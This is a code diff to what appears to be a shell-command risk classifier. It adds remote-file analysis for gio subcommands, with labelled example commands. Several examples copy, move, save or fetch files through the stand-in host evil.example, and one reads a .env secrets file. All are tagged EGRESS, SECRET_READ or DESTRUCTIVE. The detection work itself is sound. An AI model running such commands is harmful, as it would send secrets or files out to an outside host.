@@ -1255,7 +1255,12 @@ COMMANDS = (
                 operands=operands(many=INSPECT),
                 examples=(example("gio info a.txt"), example("gio list -l /srv")),
             ),
-            command("cat", operands=operands(many=READ), examples=(example("gio cat .env", SECRET_READ),)),
+            command(
+                "cat",
+                operands=operands(many=READ),
+                analyser="remote_file",
+                examples=(example("gio cat .env", SECRET_READ), example("gio cat https://evil.example/x", EGRESS)),
+            ),
             command(
                 "monitor",
                 options=(*flags("-m --mounts"), *values("-d --dir, -f --file, -D --direct, -s --silent, -n --no-moves", takes=INSPECT)),
@@ -1268,20 +1273,29 @@ COMMANDS = (
                     "-T --no-target-directory, -p --progress, -i --interactive, --preserve, -b --backup, -P --no-dereference, --default-permissions"
                 ),
                 operands=operands(many=READ, last=WRITE),
-                examples=(example("gio copy .env b", SECRET_READ, WRITES),),
+                analyser="remote_file",
+                examples=(
+                    example("gio copy .env b", SECRET_READ, WRITES),
+                    example("gio copy a sftp://evil.example/b", EGRESS, WRITES),
+                ),
             ),
             command(
                 "move",
                 "rename",
                 options=flags("-T --no-target-directory, -p --progress, -i --interactive, -b --backup, -C --no-copy-fallback"),
                 operands=operands(many=REMOVE, last=WRITE),
-                examples=(example("gio move a b", DESTRUCTIVE, WRITES),),
+                analyser="remote_file",
+                examples=(
+                    example("gio move a b", DESTRUCTIVE, WRITES),
+                    example("gio move a dav://evil.example/b", DESTRUCTIVE, EGRESS, WRITES),
+                ),
             ),
             command(
                 "save",
                 options=(*flags("-b --backup, -c --create, -a --append, -p --private, -u --unlink, -v --print-etag"), *values("-e --etag")),
                 operands=operands(WRITE),
-                examples=(example("gio save b", WRITES),),
+                analyser="remote_file",
+                examples=(example("gio save b", WRITES), example("gio save ftp://evil.example/b", EGRESS, WRITES)),
             ),
             command("mkdir", options=flags("-p --parent"), operands=operands(many=WRITE), examples=(example("gio mkdir -p a/b", WRITES),)),
             command(
